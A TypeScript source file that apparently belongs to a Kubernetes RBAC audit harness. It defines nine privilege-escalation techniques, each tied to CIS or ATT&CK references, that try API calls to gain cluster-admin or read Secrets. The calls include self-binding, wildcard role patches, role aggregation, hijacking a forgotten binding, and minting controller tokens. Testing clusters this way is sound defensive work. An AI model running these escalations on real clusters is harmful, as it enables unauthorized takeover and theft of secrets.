/** Ways from a right on roles and bindings to more. */
import { bindingOf } from './world';
import { RBAC_GROUP, core, defineTechniques, named, on, type Rule } from './technique';

const RBAC = `/apis/${RBAC_GROUP}/v1`;
const GOOD_PRACTICES = 'Kubernetes, RBAC good practices, T1098.006';
const rbac = (resource: string, ...verbs: string[]): Rule => on(RBAC_GROUP, resource, ...verbs);
const EVERYTHING = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
const SECRETS = { apiGroups: [''], resources: ['secrets'], verbs: ['get'] };

export const ROLE_TECHNIQUES = defineTechniques(
  {
    name: 'binds cluster-admin to itself',
    source: `${GOOD_PRACTICES}, CIS 5.1.8`,
    needs: {
      cluster: [rbac('clusterrolebindings', 'create'), named(rbac('clusterroles', 'bind'), 'cluster-admin')],
    },
    attempt: async (me, world) => {
      const body = bindingOf(me, `${me.id}-admin`, 'ClusterRole', 'cluster-admin');
      await me.must('POST', `${RBAC}/clusterrolebindings`, body);
      return world.becomesAdministrator(me);
    },
  },
  {
    name: 'adds itself to a binding that is there',
    source: `${GOOD_PRACTICES}, CIS 5.1.8`,
    needs: {
      cluster: [rbac('clusterrolebindings', 'patch'), named(rbac('clusterroles', 'bind'), 'cluster-admin')],
    },
    attempt: async (me, world) => {
      const staff = bindingOf(me, `${me.id}-staff`, 'ClusterRole', 'cluster-admin');
      const path = await world.exists(me, `${RBAC}/clusterrolebindings`, { ...staff, subjects: [] });
      await me.patch(path, { subjects: [me.subject] });
      return world.becomesAdministrator(me);
    },
  },
  {
    name: 'binds admin to itself in a namespace',
    source: `${GOOD_PRACTICES}, CIS 5.1.8`,
    needs: { target: [rbac('rolebindings', 'create'), named(rbac('clusterroles', 'bind'), 'admin')] },
    attempt: async (me, world, target) => {
      const body = bindingOf(me, `${me.id}-admin`, 'ClusterRole', 'admin');
      await me.must('POST', `${RBAC}/namespaces/${target}/rolebindings`, body);
      return world.eventually(() => world.readsTreasure(me, target));
    },
  },
  {
    name: 'writes everything into its own ClusterRole',
    source: `${GOOD_PRACTICES}, CIS 5.1.8`,
    needs: { cluster: [rbac('clusterroles', 'patch', 'escalate')] },
    attempt: async (me, world) => {
      await me.patch(`${RBAC}/clusterroles/${me.roles.cluster ?? 'view'}`, { rules: [EVERYTHING] });
      return world.becomesAdministrator(me);
    },
  },
  {
    name: 'writes Secrets into its own Role',
    source: `${GOOD_PRACTICES}, CIS 5.1.8`,
    needs: { target: [rbac('roles', 'patch', 'escalate')] },
    attempt: async (me, world, target) => {
      const path = `${RBAC}/namespaces/${target}/roles/${me.roles.namespaced ?? 'none'}`;
      await me.patch(path, { rules: [SECRETS] });
      return world.eventually(() => world.readsTreasure(me, target));
    },
  },
  {
    name: 'makes a Role that reads Secrets and binds it',
    source: `${GOOD_PRACTICES}, CIS 5.1.8`,
    needs: { target: [rbac('roles', 'create', 'escalate', 'bind'), rbac('rolebindings', 'create')] },
    attempt: async (me, world, target) => {
      const base = `${RBAC}/namespaces/${target}`;
      const name = `${me.id}-reader`;
      await me.must('POST', `${base}/roles`, { metadata: { name }, rules: [SECRETS] });
      await me.must('POST', `${base}/rolebindings`, bindingOf(me, name, 'Role', name));
      return world.eventually(() => world.readsTreasure(me, target));
    },
  },
  {
    name: 'adds to a role that it holds, by aggregation',
    source: 'Kubernetes, Using RBAC authorization: aggregated ClusterRoles, T1098.006',
    needs: { cluster: [rbac('clusterroles', 'create', 'escalate')] },
    holds: 'view',
    attempt: async (me, world) => {
      const labels = { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' };
      const body = { metadata: { name: `${me.id}-more`, labels }, rules: [EVERYTHING] };
      await me.must('POST', `${RBAC}/clusterroles`, body);
      return world.becomesAdministrator(me);
    },
  },
  {
    name: 'makes the account that a forgotten binding names',
    source: 'Kubernetes, RBAC good practices: periodic review, T1136',
    needs: { target: [core('serviceaccounts', 'create'), core('serviceaccounts/token', 'create')] },
    attempt: async (me, world, target) => {
      const name = `${me.id}-ghost`;
      const binding = bindingOf(me, name, 'ClusterRole', 'cluster-admin');
      const subjects = [{ kind: 'ServiceAccount', name, namespace: target }];
      await world.exists(me, `${RBAC}/clusterrolebindings`, { ...binding, subjects });
      const accounts = `/api/v1/namespaces/${target}/serviceaccounts`;
      await me.must('POST', accounts, { metadata: { name } });
      type Token = { status: { token: string } };
      const { status } = await me.must<Token>('POST', `${accounts}/${name}/token`, {});
      return world.becomesAdministrator(me.bearing(status.token));
    },
  },
  {
    name: 'acts as the controller that aggregates roles',
    source: 'Kubernetes, RBAC good practices: token request, T1528',
    needs: {
      'kube-system': [named(core('serviceaccounts/token', 'create'), 'clusterrole-aggregation-controller')],
    },
    attempt: async (me, world) => {
      const name = 'clusterrole-aggregation-controller';
      const own = `${RBAC}/clusterroles/system:controller:${name}`;
      const accounts = '/api/v1/namespaces/kube-system/serviceaccounts';
      type Token = { status: { token: string } };
      const { status } = await me.must<Token>('POST', `${accounts}/${name}/token`, {});
      await world.keep(own);
      const controller = me.bearing(status.token);
      await controller.patch(own, { rules: [EVERYTHING] });
      return world.becomesAdministrator(controller);
    },
  },
);
